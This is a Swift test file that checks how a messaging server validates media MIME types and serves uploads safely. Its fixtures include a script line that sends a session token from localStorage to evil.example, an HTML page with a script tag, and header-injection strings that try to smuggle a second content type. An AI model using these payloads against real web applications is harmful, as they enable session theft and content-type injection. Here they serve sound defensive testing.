import CourierProtocol
import CourierServer
import CourierServerTesting
import CourierStore
import CourierTesting
import CourierWire
import Foundation
import NIOCore
import Testing

/// Media messages: the type a sender gives, as stored and as served.
extension MediaTests {
    /// A PNG's signature and header, then noise: what a sniffer sees of a real picture.
    static func pngLike(_ count: Int, _ name: String) -> [UInt8] {
        [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13] + Self.randomBytes(count, name)
    }

    @Test(
        "a type that smuggles a second one is refused on both ports; one type is stored, delivered and served in one spelling"
    )
    func smuggledTypes() async throws {
        try await ServerFixture.with { fixture in
            for name in ["alice", "bob"] { try await fixture.user(name) }
            let (alice, _) = try await NativeTestClient.login(fixture, "alice")
            let (bob, bobWelcome) = try await NativeTestClient.login(fixture, "bob")
            let page = Array("<!doctype html><script src=/media/x></script>".utf8)
            _ = try #require(try await alice.upload(page, stream: 1).done)
            for smuggled in [
                "image/png, text/html", "image/png,text/javascript", "image/png;a=b, text/html", "image/png text/html",
                "image/png\r\nContent-Type: text/html",
            ] {
                let answer = try await alice.sendMedia(.of(page, mime: smuggled, name: "cat.png"), to: .user("bob"))
                #expect(answer.error.code == "invalid-request", "\(smuggled.debugDescription): \(answer)")
            }
            // The compat port's header is held to the same grammar.
            let compat = try await CompatTestClient.connect(port: fixture.ports.compat)
            try await compat.write(
                CompatTestClient.notesPacket([("type", "auth"), ("user", "alice"), ("password", "pw-alice")])
            )
            _ = try await compat.expect("welcome")
            try await compat.write(
                CompatTestClient.notesPacket(
                    [("type", "img"), ("to", "bob"), ("mime", "image/png, text/html"), ("name", "cat.png")],
                    payload: page
                )
            )
            let refused = try await compat.expect("error")
            #expect(refused.header["code"] == .string("invalid-request"), "\(refused.header)")
            await compat.close()

            // One type, in any spelling: kept and delivered in one.
            let picture = Self.pngLike(2000, "smuggledTypes")
            _ = try #require(try await alice.upload(picture, stream: 3).done)
            let sent = try await alice.sendMedia(
                .of(picture, mime: "IMAGE/PNG ;  Name=\"cat\"", name: "cat.png"),
                to: .user("bob")
            )
            #expect(sent.error.code.isEmpty, "\(sent)")
            let delivered = try await bob.messages(1)
            #expect(delivered.first?.body.media.mime == "image/png; name=cat")

            let headers = try await HTTPTests.curl([
                "--dump-header", "-", "--output", "/dev/null", "--header",
                "Authorization: Bearer \(bobWelcome.token)",
                "http://127.0.0.1:\(fixture.ports.http)/media/\(NativeTestClient.sha256(picture))",
            ]).lowercased()
            // Served as its type and subtype alone: a quoted parameter never reaches the header.
            #expect(headers.contains("content-type: image/png\r\n"), "\(headers)")
            #expect(!headers.contains("content-disposition"), "\(headers)")
            #expect(headers.contains("x-content-type-options: nosniff"), "\(headers)")
            await alice.close()
            await bob.close()
        }
    }

    @Test(
        "/media serves inline only listed pictures, sound and video whose bytes are that type; all else is a download"
    )
    func inlineOnlyWhenTheBytesAgree() async throws {
        try await ServerFixture.with { fixture in
            for name in ["alice", "bob"] { try await fixture.user(name) }
            let (alice, _) = try await NativeTestClient.login(fixture, "alice")
            let (_, bobWelcome) = try await NativeTestClient.login(fixture, "bob")
            let png = Self.pngLike(500, "inline-png")
            let script = Array("fetch('//evil.example/?'+localStorage.getItem('courier.session'))".utf8)
            let html = Array("<!doctype html><p>hello</p>".utf8)
            let mp4 = [0, 0, 0, 0x18] + Array("ftypisom".utf8) + Self.randomBytes(800, "inline-mp4")
            // Another file (the type served is the newest message's: one file, one expectation).
            let mp4Named = [0, 0, 0, 0x18] + Array("ftypisom".utf8) + Self.randomBytes(800, "inline-mp4-2")
            // (bytes, type sent, type served inline or nil for a download)
            let cases: [([UInt8], String, String?)] = [
                (png, "image/png", "image/png"),
                (script, "image/png", nil),
                (html, "image/gif", nil),
                (mp4, "video/mp4; codecs=\",text/html\"", "video/mp4"),
                (mp4Named, "image/png", nil),
                (html, "text/plain; charset=utf-8", nil),
                (html, "image/svg+xml", nil),
                (script, "text/javascript", nil),
                (html, "", nil),
            ]
            var stream: UInt32 = 1
            for bytes in Set(cases.map(\.0)) {
                // Each file once (an upload of the same bytes again is already done).
                _ = try await alice.upload(bytes, stream: stream)
                stream += 2
            }
            for (index, (bytes, sent, served)) in cases.enumerated() {
                let media = Courier_V1_Media.of(bytes, kind: .file, mime: sent, name: "f\(index)")
                let answer = try await alice.sendMedia(media, to: .user("bob"))
                #expect(answer.error.code.isEmpty, "\(answer)")
                let headers = try await HTTPTests.curl([
                    "--dump-header", "-", "--output", "/dev/null", "--header",
                    "Authorization: Bearer \(bobWelcome.token)",
                    "http://127.0.0.1:\(fixture.ports.http)/media/\(media.sha256)",
                ]).lowercased()
                if let served {
                    #expect(headers.contains("content-type: \(served)\r\n"), "\(sent): \(headers)")
                    #expect(!headers.contains("content-disposition"), "\(sent): \(headers)")
                } else {
                    #expect(headers.contains("content-type: application/octet-stream\r\n"), "\(sent): \(headers)")
                    #expect(headers.contains("content-disposition: attachment"), "\(sent): \(headers)")
                }
                #expect(headers.contains("content-security-policy: default-src 'none'; sandbox"), "\(headers)")
                #expect(headers.contains("x-content-type-options: nosniff"), "\(headers)")
            }
            await alice.close()
        }
    }
}
